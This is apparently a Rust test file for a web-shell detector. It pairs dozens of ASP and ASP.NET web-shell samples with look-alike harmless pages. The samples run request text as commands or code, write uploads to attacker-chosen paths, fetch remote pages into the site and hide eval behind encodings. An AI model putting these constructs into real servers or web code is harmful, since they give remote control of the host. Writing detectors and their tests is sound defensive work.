//! Constructs that real shells in ASP and ASP.NET use, in words of our own, and harmless pages beside them.
//!
//! In: one text a row. Out: what the reader must say of it. They are texts of a test and run nowhere.

use super::{Verdict, read};

/// Shells: name, construct.
const SHELLS: &[(&str, &str)] = &[
    // A condition is no assignment: the request stays the request.
    (
        "condition.asp",
        "<%\nif request(\"do\")=\"save\" then\nset s=server.createobject(\"scripting.filesystemobject\")\nset t=s.opentextfile(request(\"to\"),2,true)\nt.writeline request(\"what\")\nend if\n%>",
    ),
    // The command goes through the standard input of a shell.
    (
        "stdin.ashx",
        r#"<%@ WebHandler Language="C#" Class="H" %>
using System.Diagnostics; using System.Web;
public class H : IHttpHandler {
 public void ProcessRequest(HttpContext c) {
  Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true; p.Start();
  var w = p.StandardInput; w.WriteLine(c.Request["q"]);
 }
}"#,
    ),
    // A text that the page unscrambles is run, short as it is.
    (
        "unscrambled.asp",
        "<%\nfunction turn(t)\nturn=replace(replace(strreverse(t),\"~\",\"\"\"\"),\"|\",vbcrlf)\nend function\nexecute turn(\")~k~(tseuqer lave\")\n%>",
    ),
    (
        "unscrambled-js.asp",
        "<script runat=\"server\" language=\"JScript\">\nfunction go(t){ var m=\"u\"+\"nsaf\"+\"e\"; return eval(t,m); }\nfunction un(t,k){ var r=\"\"; for(var i=0;i<t.length;i+=2){ r+=char(int(\"0x\"+t.substr(i,2))-k); } return r; }\n</script>\n<%\ngo(go(un(\"667766776677667766\",\"1\")));\n%>",
    ),
    // The client names the folder into which an upload goes.
    (
        "folder.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
void Go(object s, EventArgs e) { string n = Path.GetFileName(up.FileName); up.SaveAs(dir.Text + "\\" + n); }
</script><form runat="server"><asp:TextBox ID="dir" runat="server"/><asp:FileUpload ID="up" runat="server"/></form>"#,
    ),
    // Uploads lie beside the page.
    (
        "beside.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
void Go(object s, EventArgs e) {
 HttpPostedFile f = Request.Files[0]; byte[] b = new byte[f.ContentLength]; f.InputStream.Read(b, 0, b.Length);
 FileInfo own = new FileInfo(Request.PhysicalPath);
 using (FileStream o = new FileStream(Path.Combine(own.DirectoryName, Path.GetFileName(f.FileName)), FileMode.Create)) { o.Write(b, 0, b.Length); }
}</script>"#,
    ),
    // A file object writes what a field holds.
    (
        "fileinfo.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
void Save(object s, EventArgs e) { System.IO.FileInfo f = new System.IO.FileInfo(where.Text); System.IO.StreamWriter w = f.CreateText(); w.Write(what.Text); w.Close(); }
</script><form runat="server"><asp:TextBox id="where" runat="server"/><asp:TextBox id="what" runat="server"/></form>"#,
    ),
    (
        "declared.aspx",
        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\nDim w As New StreamWriter(Request.Form(\"to\"), True, Encoding.Default)\nw.Write(Request.Form(\"what\"))\nw.Close()\nEnd Sub\n</script>",
    ),
    // The body of a multipart request, taken apart by hand, names the whole path.
    (
        "by-hand.asp",
        "<%\nsub cut(body)\nset part=createobject(\"scripting.dictionary\")\npart.add \"v\",midb(body,1,9)\nall.add \"f\",part\nend sub\nset all=createobject(\"scripting.dictionary\")\nraw=request.binaryread(request.totalbytes)\ncut(raw)\nwhere=all.item(\"p\").item(\"v\")\nset o=createobject(\"scripting.filesystemobject\").createtextfile(where)\nfor i=1 to lenb(raw)\no.write chr(ascb(midb(raw,i,1)))\nnext\n%>",
    ),
    // What another server sends becomes a page.
    (
        "fetched.asp",
        "<%\nset x=createobject(\"msxml2.xmlhttp\")\nx.open \"GET\",\"http://h.example/p.txt\",0\nx.send\nset s=createobject(\"adodb.stream\")\ns.open\ns.write x.responsebody\ns.savetofile \"d:\\site\\p.asp\",2\n%>",
    ),
    // A page is written over by what the request sends.
    (
        "itself.asp",
        "<%\nset o=createobject(\"scripting.filesystemobject\").createtextfile(server.mappath(request.servervariables(\"script_name\")),true)\no.write request(\"what\")\n%>",
    ),
    (
        "rights.aspx",
        "<script runat=\"server\" language=\"JScript\">function run(t) { var a = \"uns\"; var b = a + \"afe\"; return eval(t, b); }</script>",
    ),
    // What is read stands in the argument, and leads to a host.
    (
        "tunnel.ashx",
        r#"<%@ WebHandler Language="C#" Class="H" %>
using System.Net.Sockets; using System.Web; using System.Web.SessionState;
public class H : IHttpHandler, IRequiresSessionState {
 byte[] cut(byte[] d) { MemoryStream m = new MemoryStream(d); byte[] v = new byte[9]; m.Read(v, 0, v.Length); return v; }
 public void ProcessRequest(HttpContext c) {
  byte[] b = new byte[c.Request.ContentLength]; c.Request.InputStream.Read(b, 0, b.Length);
  string to = Encoding.Default.GetString(cut(b)); Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  s.Connect(new IPEndPoint(IPAddress.Parse(to), 80)); c.Session.Add("s", s);
 }
}"#,
    ),
    // What is written is started.
    (
        "dropper.asp",
        "<%\nset o=createobject(\"scripting.filesystemobject\").createtextfile(\"c:\\temp\\n.vbs\",true)\no.write \"msgbox 1\"\no.close\ncreateobject(\"wscript.shell\").run \"c:\\temp\\n.vbs\",0,false\n%>",
    ),
    (
        "renamed.asp",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs e) { Process p = new Process(); p.StartInfo.FileName = Request[\"k\"]; p.Start(); }</script>",
    ),
    // A page writes a page.
    (
        "writes.ashx",
        r#"<%@ WebHandler Language="C#" Class="H" %>
using System.IO; using System.Web;
public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { StreamWriter w = File.CreateText(c.Server.MapPath("k.asp")); w.Write("<%execute request(\"k\")%>"); w.Close(); } }"#,
    ),
    // Components by class id, by element, by program id.
    (
        "element.asp",
        "<object runat=\"server\" id=\"o\" classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object><%\nresponse.write o.exec(\"cmd /c \" & request(\"k\")).stdout.readall\n%>",
    ),
    (
        "moniker.asp",
        "<% set o=getobject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\")\no.run \"cmd /c \" & request(\"k\") %>",
    ),
    (
        "wmi.asp",
        "<% set o=getobject(\"winmgmts:\\\\.\\root\\cimv2:win32_process\")\nr=o.create(request(\"k\"),null,null,n) %>",
    ),
    (
        "locator.asp",
        "<% set o=server.createobject(\"wbemscripting.swbemlocator\").connectserver(\".\",\"root/cimv2\").get(\"win32_process\")\nr=o.create(request(\"k\"),null,null,n) %>",
    ),
    (
        "management.aspx",
        r#"<%@ Page Language="C#" %><% new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create", new object[] { Request["k"], null, null, 0 }); %>"#,
    ),
    (
        "native.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
[DllImport("ws2_32.dll")] static extern IntPtr WSASocket(int a, int t, int p, IntPtr i, uint g, int f);
[DllImport("kernel32.dll")] static extern bool CreateProcess(string a, string c, IntPtr p, IntPtr t, bool i, uint f, IntPtr e, string d, ref SI s, out PI o);
void Go() { s = WSASocket(2, 1, 6, IntPtr.Zero, 0, 0); CreateProcess(null, shell, a, b, true, 0, c, null, ref si, out pi); }
</script>"#,
    ),
    (
        "script.cshtml",
        "@using Microsoft.CodeAnalysis.CSharp.Scripting\n@{ var r = CSharpScript.EvaluateAsync(Request[\"k\"]).Result; }\n@r",
    ),
    (
        "progid.aspx",
        r#"<%@ Page Language="C#" %><% Type t = Type.GetTypeFromProgID("WScript.Shell"); object o = Activator.CreateInstance(t); t.InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, o, new object[] { "cmd /c " + Request.Headers["X-K"] }); %>"#,
    ),
    // Engines that run text.
    (
        "runspace.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">string Go(string c) { PowerShell p = PowerShell.Create(); p.AddScript(c); return p.Invoke().ToString(); } void Page_Load(object s, EventArgs e) { Response.Write(Go(Request.Form["k"])); }</script>"#,
    ),
    (
        "engine.aspx",
        r#"<%@ Page Language="C#" %><% Microsoft.JScript.Eval.JScriptEvaluate(Request.Form["k"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); %>"#,
    ),
    (
        "initializer.aspx",
        r#"<%@ Page Language="C#" %><% Process.Start(new ProcessStartInfo { FileName = "powershell", Arguments = Request["k"] }); %>"#,
    ),
    (
        "interaction.aspx",
        "<%@ Page Language=\"VB\" %><% Microsoft.VisualBasic.Interaction.Shell(\"cmd /c \" & Request(\"k\"), 0) %>",
    ),
    (
        "by-name.aspx",
        "<%@ Page Language=\"JScript\" %><% this[\"ev\" + \"al\"](Request[\"k\"], \"unsa\" + \"fe\"); %>",
    ),
    (
        "domain.aspx",
        r#"<%@ Page Language="C#" %><% AppDomain.CurrentDomain.Load(Convert.FromBase64String(Request.Form["k"])).GetType("T").GetMethod("M").Invoke(null, null); %>"#,
    ),
    // Other ways to write what is written elsewhere.
    ("continued.asp", "<%\nx = \"ex\" & _\n \"ecute re\" & _\n \"quest(\"\"k\"\")\"\nexecute x\n%>"),
    (
        "two-languages.asp",
        "<%@ language=\"vbscript\" %><% response.write \"hello\" %>\n<script language=\"JScript\" runat=\"server\">function f(){ eval(String(Request.form(\"k\"))); }</script>",
    ),
    (
        "page.cshtml",
        "@{ var c = Request[\"k\"]; }\n<p>It's what one doesn't expect</p>\n@if (c != null) { var p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + c; p.Start(); }",
    ),
    (
        "drives.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
void Page_Load(object s, EventArgs e) {
 foreach (string d in Environment.GetLogicalDrives()) { Response.Write(d); }
 DirectoryInfo i = new DirectoryInfo(Request["at"]); foreach (DirectoryInfo x in i.GetDirectories()) { Response.Write(x.FullName); }
 Response.WriteFile(Request["get"]);
}</script>"#,
    ),
    (
        "times.asp",
        "<%\np=request(\"p\")\nset s=server.createobject(\"scripting.filesystemobject\")\nset f=s.getfile(p & request(\"n\"))\nf.attributes=request(\"a\")\nset d=s.getfolder(p)\ns.deletefile request(\"x\")\n%>",
    ),
    (
        "machine-code.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr n, int t, int p);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr b, IntPtr p, int f, ref IntPtr i);
</script>"#,
    ),
    // What a service's methods are given is what clients send.
    (
        "service.asmx",
        r#"<%@ WebService Language="C#" Class="S" %>
public class S : System.Web.Services.WebService {
 [WebMethod(Description = "status", EnableSession = true)]
 public string Ask(string tool, string line) { var i = new ProcessStartInfo(tool, line); i.UseShellExecute = false; return Process.Start(i).StandardOutput.ReadToEnd(); }
}"#,
    ),
    (
        "service-vb.asmx",
        "<%@ WebService Language=\"VB\" Class=\"S\" %>\nPublic Class S\n<WebMethod()> _\nPublic Function Ask(ByVal line As String) As String\nShell(\"cmd.exe /c \" & line)\nReturn \"ok\"\nEnd Function\nEnd Class",
    ),
    // The command stands in the holes of a text.
    (
        "holes.cshtml",
        r#"@using System.Diagnostics
@{ var q = Request["q"]; var p = Process.Start(new ProcessStartInfo("/bin/bash", $"-c \"{q}\"") { RedirectStandardOutput = true }); }
<pre>@p.StandardOutput.ReadToEnd()</pre>"#,
    ),
    // The method that starts programs is taken by its name.
    (
        "by-name.aspx",
        r#"<%@ Page Language="C#" %><% var kind = Type.GetType("System.Diagnostics.Process, System"); var go = kind.GetMethod("Start", new[] { typeof(string) }); go.Invoke(null, new object[] { Request["run"] }); %>"#,
    ),
    // The page takes on an account that the request names and shows what that may see.
    (
        "account.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
[DllImport("advapi32.dll")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);
void Go(object s, EventArgs e) { IntPtr h = IntPtr.Zero; LogonUser(who.Text, ".", secret.Text, 2, 0, ref h);
 using (WindowsIdentity.Impersonate(h)) { foreach (string n in Directory.GetDirectories(where.Text)) Response.Write(n); Response.Write(File.ReadAllText(where.Text)); } }
</script><form runat="server"><asp:TextBox id="who" runat="server"/><asp:TextBox id="secret" runat="server"/><asp:TextBox id="where" runat="server"/></form>"#,
    ),
    // A remark with another language stands before the page's own.
    (
        "remark.aspx",
        r#"<!--<%@ Page Language="C#" %>--><%@ Page Language="Jscript"%><% eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["q"])),"unsafe"); %>"#,
    ),
    // The code stands in pieces: a list of letters that a loop puts together, a text that is split and joined.
    (
        "letters.asp",
        "<%\nlist = Array(102, 119, 98, 109, 33, 115, 102, 114, 118, 102, 116, 117, 41, 50, 42)\nwhole = \"\"\nFor n = 0 To UBound(list)\nwhole = whole & Chr(list(n) - 1)\nNext\nExecute whole\n%>",
    ),
    (
        "hex.asp",
        "<%\nlong = \"6576616C2072657175657374283129\"\nFor n = 1 To Len(long) Step 2\nwhole = whole & Chr(CLng(\"&H\" & Mid(long, n, 2)))\nNext\nExecute whole\n%>",
    ),
    (
        "words.asp",
        "<%\nFor Each part In Split(\"101,118,97,108,32,114,101,113,117,101,115,116,40,49,41\", \",\")\nwhole = whole & Chr(part)\nNext\nExecuteGlobal whole\n%>",
    ),
    (
        "marks.asp",
        "<%\nparts = Split(\"e.v.a.l|request\", \"|\")\nExecute Join(Split(parts(0), \".\"), \"\") & \" \" & parts(1) & \"(9)\"\n%>",
    ),
    (
        "backwards.asp",
        "<%@ language=JScript %><% var t = \")1(metI.tseuqeR(lave\".split(\"\").reverse().join(\"\"); eval(t + \"\\x29\"); %>",
    ),
    (
        "shifted.aspx",
        "<%@ Page Language=\"JScript\" %><% var l = [102, 119, 98, 109, 41, 83, 102, 114, 118, 102, 116, 117, 92, 50, 94, 42], t = \"\"; for (var i = 0; i < l.length; i++) { t += String.fromCharCode(l[i] - 1); } eval(t, \"unsafe\"); %>",
    ),
];

/// Pages that look alike.
const HARMLESS: &[(&str, &str)] = &[
    (
        "condition.asp",
        "<%\nif request(\"do\")=\"save\" then\nset s=server.createobject(\"scripting.filesystemobject\")\nset t=s.opentextfile(server.mappath(\"log.txt\"),8,true)\nt.writeline request(\"what\")\nend if\n%>",
    ),
    (
        "stdin.ashx",
        r#"<%@ WebHandler Language="C#" Class="H" %>
using System.Diagnostics; using System.Web;
public class H : IHttpHandler {
 public void ProcessRequest(HttpContext c) {
  Process p = new Process(); p.StartInfo.FileName = "convert.exe"; p.Start();
  p.StandardInput.WriteLine("exit"); c.Response.Write(c.Request["q"]);
 }
}"#,
    ),
    (
        "folder.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
void Go(object s, EventArgs e) { string n = Path.GetFileName(up.FileName); up.SaveAs(Server.MapPath("~/uploads/") + n); }
</script><form runat="server"><asp:FileUpload ID="up" runat="server"/></form>"#,
    ),
    (
        "beside.aspx",
        r#"<%@ Page Language="C#" %><% HttpPostedFile f = Request.Files[0]; f.SaveAs(Server.MapPath(".") + "\\pictures\\" + f.FileName); %>"#,
    ),
    (
        "bound.aspx",
        r#"<%@ Page Language="C#" %><asp:Repeater runat="server"><ItemTemplate><%# Eval("Name") %> <%# DataBinder.Eval(Container.DataItem, "Price", "{0:c}") %></ItemTemplate></asp:Repeater>"#,
    ),
    (
        "handler.ashx",
        r#"<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { for (int i = 0; i < c.Request.Files.Count; i++) { var f = c.Request.Files[i]; f.SaveAs(c.Server.MapPath("~/uploads/" + f.FileName)); } } }"#,
    ),
    (
        "class.asp",
        "<%\nclass up\npublic sub save(folder)\nset s=createobject(\"adodb.stream\")\ns.open\ns.write body\ns.savetofile folder & \"\\\" & name,2\nend sub\nend class\n%>",
    ),
    (
        "fetched.asp",
        "<%\nset x=createobject(\"msxml2.xmlhttp\")\nx.open \"GET\",\"http://rates.example/euro.xml\",0\nx.send\nset s=createobject(\"adodb.stream\")\ns.open\ns.write x.responsebody\ns.savetofile server.mappath(\"euro.xml\"),2\n%>",
    ),
    (
        "wmi.asp",
        "<% set o=getobject(\"winmgmts:\\\\.\\root\\cimv2\")\nfor each d in o.execquery(\"select * from win32_logicaldisk\")\nresponse.write d.freespace\nnext %>",
    ),
    (
        "log.asp",
        "<%\nset o=createobject(\"scripting.filesystemobject\").createtextfile(server.mappath(\".\") & \"\\log.txt\",true)\no.write request(\"what\")\n%>",
    ),
    (
        "report.asp",
        "<%\nset o=createobject(\"scripting.filesystemobject\").createtextfile(\"c:\\temp\\report.txt\",true)\no.write \"done\"\no.close\ncreateobject(\"wscript.shell\").run \"c:\\tools\\mail.exe\",0,false\n%>",
    ),
    (
        "relay.ashx",
        r#"<%@ WebHandler Language="C#" Class="H" %>
using System.Net.Sockets; using System.Web;
public class H : IHttpHandler {
 public void ProcessRequest(HttpContext c) {
  byte[] b = new byte[c.Request.ContentLength]; c.Request.InputStream.Read(b, 0, b.Length);
  Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect("printer.example", 9100); s.Send(b);
 }
}"#,
    ),
    ("continued.asp", "<%\nx = \"select * \" & _\n \"from news\"\nset r = c.execute(x)\n%>"),
    (
        "page.cshtml",
        "@{ ViewBag.Title = \"It's here\"; }\n<p>One doesn't look</p>\n@foreach (var n in Model) { <li>@n</li> }",
    ),
    (
        "included.asp",
        "<!--#include file=\"header.asp\"-->\n<!--#include file=\"notice.txt\"-->\n<p>Our opening hours are on the board. Our opening hours are on the board. Our opening hours are on the board. Our opening hours are on the board.</p>",
    ),
    // Data binding is called as evaluation is.
    (
        "binding.ascx",
        r#"<%@ Control Language="C#" %><script runat="server">string Column() { return Request["column"]; }</script>
<asp:Repeater id="r" runat="server"><ItemTemplate><%# Eval(Request["column"]) %> <%# Eval(Column(), "{0:d}") %></ItemTemplate></asp:Repeater>"#,
    ),
    // What is written goes to another server.
    (
        "relay.ashx",
        r#"<%@ WebHandler Language="C#" Class="H" %>
public class H : IHttpHandler { public void ProcessRequest(HttpContext c) {
 var r = WebRequest.Create("http://inside.example/api?" + c.Request["q"]); r.Method = "POST";
 using (var w = new StreamWriter(r.GetRequestStream())) { w.Write(c.Request["body"]); } } }"#,
    ),
    // A framework includes its own files: it lays long patterns over what it reads, and evaluates that.
    (
        "framework.asp",
        "<%\nfunction swap(t, pattern, by)\nset x=new regexp\nx.pattern=pattern\nswap=x.replace(t,by)\nend function\nsub bring(path)\ndim t\nt=readout(path)\nt=swap(t,\"<!--#include +?file *?= *?(\\S+) *?-->\",\"$1\")\nexecuteglobal \"dim \" & chr(34) & t\nend sub\n%>",
    ),
    // The connection's form is laid down by the page of an administrator.
    (
        "report.asp",
        "<%\nset c=server.createobject(\"adodb.connection\")\nc.open \"Provider=SQLOLEDB;Data Source=\" & request(\"server\") & \";Integrated Security=SSPI\"\nset r=c.execute(request(\"statement\"))\nresponse.write r(0)\n%>",
    ),
    // A service keeps files in a folder of its own.
    (
        "files.asmx",
        r#"<%@ WebService Language="C#" Class="S" %>
public class S : System.Web.Services.WebService {
 [WebMethod] public string Keep(byte[] bytes, string name) { File.WriteAllBytes(Server.MapPath("~/Scans/") + name, bytes); return "ok"; }
 [WebMethod] public string Note(string text) { File.WriteAllText(ConfigurationManager.AppSettings["notes"] + DateTime.Now.Ticks + ".txt", text); return $"{text.Length:N0} {{kept}}"; }
}"#,
    ),
    // A page to log in with an account of the domain.
    (
        "login.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">
[DllImport("advapi32.dll")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);
void Go(object s, EventArgs e) { IntPtr h = IntPtr.Zero; if (LogonUser(who.Text, "OFFICE", secret.Text, 2, 0, ref h) != 0) FormsAuthentication.RedirectFromLoginPage(who.Text, false); }
</script><form runat="server"><asp:TextBox id="who" runat="server"/><asp:TextBox id="secret" runat="server"/></form>"#,
    ),
    // Lists that loops put together are no code, and none is evaluated here.
    (
        "menu.asp",
        "<%\nnames = Array(\"home\", \"news\", \"contact\")\nFor n = 0 To UBound(names)\nbar = bar & \"<a href='\" & names(n) & \".asp'>\" & UCase(names(n)) & \"</a>\"\nNext\nresponse.write bar\nFor Each k In Split(request(\"keys\"), \",\")\nresponse.write Server.HTMLEncode(k)\nNext\n%>",
    ),
    (
        "constants.asp",
        "<%\nFor Each pair In Split(\"limit=20,width=600\", \",\")\nExecute \"const \" & pair\nNext\n%>",
    ),
];

#[test]
fn every_construct_is_accused() {
    for (name, text) in SHELLS {
        let reading = read(text.as_bytes(), name);
        assert_eq!(reading.verdict(), Verdict::Accused, "{name}: {reading:?}\n{text}");
    }
}

#[test]
fn what_looks_like_one_is_not() {
    for (name, text) in HARMLESS {
        let reading = read(text.as_bytes(), name);
        assert_ne!(reading.verdict(), Verdict::Accused, "{name}: {reading:?}\n{text}");
    }
}

#[test]
fn a_page_of_nothing_but_empty_stretches_hides_nothing() {
    let page = "<%%>".repeat(60_000) + "<%eval request(\"k\")%>";
    assert_eq!(read(page.as_bytes(), "x.asp").verdict(), Verdict::Accused);
    let page = "<%%>".repeat(60_000) + "<%response.write now%>";
    assert_eq!(read(page.as_bytes(), "x.asp").verdict(), Verdict::Clean);
}

#[test]
fn bytes_in_the_page_that_are_loaded_as_code_accuse_it() {
    let page = |count: usize| {
        let bytes: Vec<String> = (0..count).map(|n| format!("0x{:02x}", n % 256)).collect();
        format!(
            "<%@ Page Language=\"C#\" %><% byte[] b = {{{}}}; for (int i = 0; i < b.Length; i++) b[i] ^= (byte)key[i]; Assembly a = Assembly.Load(b); %>",
            bytes.join(",")
        )
    };
    assert_eq!(read(page(300).as_bytes(), "x.aspx").verdict(), Verdict::Accused);
    assert_ne!(read(page(8).as_bytes(), "x.aspx").verdict(), Verdict::Accused);
}

#[test]
fn what_the_server_decodes_is_read_and_an_encoded_page_alone_is_looked_at() {
    let page = |code: &str| {
        [b"<%@ LANGUAGE=VBScript.Encode %><%".as_slice(), &super::encoded::tests::encoded(code), b"%>"]
            .concat()
    };
    let reading = read(&page("execute request(\"k\")\r\n"), "x.asp");
    assert_eq!(reading.verdict(), Verdict::Accused);
    assert!(reading.reasons.windows(2).all(|pair| pair[0].points >= pair[1].points), "{reading:?}");
    assert_eq!(read(&page("response.write \"good day\"\r\n"), "x.asp").verdict(), Verdict::Suspicious);
    let seven = "<%@codepage=65000%><%+AGUAdgBhAGwAIAByAGUAcQB1AGUAcwB0ACgAIgBrACIAKQ-%>";
    assert_eq!(read(seven.as_bytes(), "x.asp").verdict(), Verdict::Accused);
}

#[test]
fn elements_without_end_cost_no_more_than_their_bytes() {
    let started = std::time::Instant::now();
    let page = |unit: &str, bytes: usize| {
        let page = "<%@ language=vbscript %>".to_owned() + &unit.repeat(bytes / unit.len());
        read(page.as_bytes(), "x.asp");
    };
    page("runat ", 4_000_000);
    for unit in ["<object runat=server ", "<script ", "#@~^AAAAAA==", "<!--#include "] {
        page(unit, 400_000);
    }
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
}

#[test]
fn loops_over_long_lists_cost_no_more_than_is_set_aside() {
    let started = std::time::Instant::now();
    let list = "1,".repeat(4_000);
    let page = format!(
        "<%\na=Array({list}1)\nFor i = 0 To UBound(a)\n{}\nNext\nexecute s\n%>",
        "s = s & Chr(a(i)+1-1*2)\n".repeat(4_000)
    );
    read(page.as_bytes(), "x.asp");
    let page =
        format!("<% for (var i = 0; i < 4000; i++) {{ {} }} %>", "s += a.split('')[i];".repeat(20_000));
    read(page.as_bytes(), "x.asp");
    let page = format!("<% {} %>", "for (i = 0; i < function () { ".repeat(400));
    read(page.as_bytes(), "x.asp");
    read(page.replace("i = 0", "i = function () {").as_bytes(), "x.asp");
    let list = "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\",".repeat(4_000);
    let page =
        format!("<%\nFor Each x In Array({list}1)\n{}Next\nexecute s\n%>", "s = s & x\n".repeat(40_000));
    read(page.as_bytes(), "x.asp");
    let page =
        format!("<%@ Page Language=\"C#\" %><% {} %>", "var t = $\"{a($\"{b}{{}}\")}\"; ".repeat(20_000));
    read(page.as_bytes(), "x.aspx");
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
}
